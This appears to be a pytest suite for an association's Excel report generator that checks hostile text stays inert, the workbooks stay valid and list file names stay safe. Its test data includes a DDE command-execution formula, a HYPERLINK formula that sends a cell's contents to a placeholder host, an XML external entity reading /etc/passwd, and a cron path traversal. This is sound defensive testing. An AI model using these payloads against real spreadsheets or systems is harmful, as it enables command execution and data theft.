"""Whatever people type, or an older program let through, makes a workbook that opens."""

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from models.associations import Association
from models.changes import database
from models.listing import Listing
from models.people.members import MEMBERS
from reports.excel.lists import Shown, list_file_name, list_workbook, shown
from reports.excel.monthly import month_file
from reports.excel.sheets import (
    Book,
    Chart,
    Figure,
    Heading,
    Kind,
    Link,
    Mark,
    Section,
    Sheet,
    Table,
    Tone,
)
from reports.excel.workbook import workbook
from reports.excel.yearly import year_book
from tests.factories import MAY
from tests.workbook_rules import faults_of

pytestmark = pytest.mark.bar("R14")

HOSTILE = {
    "formula": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://x/?"&A1,"ver")',
    "plus": "+51 999",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "nul": "a\0b",
    "control": "a\x01b\x0bc\x1b[31m",
    "half a letter": "a\ud800b",
    "emoji": "Ana 👩🏽‍🌾",
    "right to left": "\u202eLUAP\u202c",
    "no width": "Jo\u200bse",
    "quechua": "Ñawi Qʼero",
    "apart": "Jose\u0301",
    "long": "x" * 40_000,
    "long emoji": "🌾" * 20_000,
    "markup": "<b>Juan</b> & <i>x</c></row>",
    "entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'> &x; ]]>",
    "path": "../../etc/cron.d/x",
    "device": "a/b:CON*.xlsx",
    "lines": "a\nb\r\nc",
    "no letter": "a\ufffeb\uffffc",
    "escaped": "_x0041_bc _x000D_",
    "error": "#REF!",
    "quotes": "'O''Higgins'",
    "header": '&A&P&"Arial"&D',
    "reference": "A1",
    "brackets": "[Saldo]{x}%s",
    "empty": "",
    "blank": "   ",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_text_anywhere_in_a_workbook_neither_breaks_it_nor_becomes_a_formula(text):
    table = Table(
        [Heading(text), Heading(text), Heading("Saldo", Kind.SOLES, total=True)],
        [[text, text, Decimal("1.50")], ["x", None, Decimal(-2)]],
        title=text,
        marks=[Mark("[Saldo]>0", Tone.WARN, ["Saldo"])],
        charts=[Chart(text, ["Saldo"])],
    )
    figures = [Figure(text, text), Figure(Link(text, text), 3, Kind.WHOLE)]
    one = Sheet(text, [table], [[Section(text, figures)]], [text], [text, text], text)
    cover = Sheet("Portada", sections=[[Section(text, figures)]], shows=[text])

    content = workbook(Book(text, text, date(2026, 5, 31), [one, Sheet("Otra", [table])], cover))

    assert faults_of(content) == []
    opened = load_workbook(BytesIO(content))
    assert {cell.data_type for sheet in opened for row in sheet for cell in row} <= {"s", "n"}
    assert len(CalamineWorkbook.from_filelike(BytesIO(content)).sheet_names) == 3


def test_a_text_that_looks_escaped_is_read_as_it_was_typed():
    book = Book("", "", date(2026, 5, 31), [Sheet("Hoja", [Table([Heading("a")], [["_x0041_b"]])])])

    rows = CalamineWorkbook.from_filelike(BytesIO(workbook(book))).get_sheet_by_index(0).to_python()

    assert ["_x0041_b"] in [row[:1] for row in rows]


# What the rules refuse today may stand in a book of before.
COLUMNS = (
    *(("member", "name"), ("buyer", "name"), ("product", "name"), ("grade", "name")),
    *(("lot", "name"), ("plot", "code"), ("association", "name"), ("parameter", "source")),
)
STORED = [text for text in HOSTILE.values() if "\ud800" not in text]


@pytest.mark.parametrize("turn", range(3))
def test_hostile_words_already_in_a_book_come_out_in_every_workbook(worked_month, turn):
    for place, (table, column) in enumerate(COLUMNS):
        keys = [key for (key,) in database.execute_sql(f"SELECT id FROM {table} ORDER BY id")]
        for number, key in enumerate(keys):
            text = STORED[(turn * 11 + place * 5 + number) % len(STORED)]
            database.execute_sql(
                f"UPDATE {table} SET {column} = ? WHERE id = ?", (f"{text}{number}", key)
            )
    association = Association.get()

    for content in (
        month_file(association, MAY, with_dni=True),
        workbook(year_book(association, 2026, date(2026, 5, 31))),
        list_workbook(shown(Listing(MEMBERS, association))),
    ):
        assert faults_of(content) == []
        load_workbook(BytesIO(content))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_list_is_a_file_in_its_folder_whatever_was_searched(text):
    name = list_file_name(Shown(None, text, MEMBERS.columns, [], {}, filters=[text, text]))

    assert name.endswith(".xlsx")
    assert set(name.removesuffix(".xlsx")) <= set(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
    )
    assert len(name) < 150
